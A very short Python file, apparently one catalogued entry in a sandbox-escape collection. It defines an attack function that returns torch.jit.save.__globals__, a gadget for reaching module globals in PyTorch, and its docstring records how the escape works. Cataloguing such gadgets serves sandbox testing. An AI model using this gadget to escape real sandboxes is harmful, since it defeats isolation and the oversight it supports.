"""Class: module gadget. Source: own find. Escape: torch.jit compiles and keeps modules."""

import torch


def attack(model, tokenizer, address):
    return torch.jit.save.__globals__
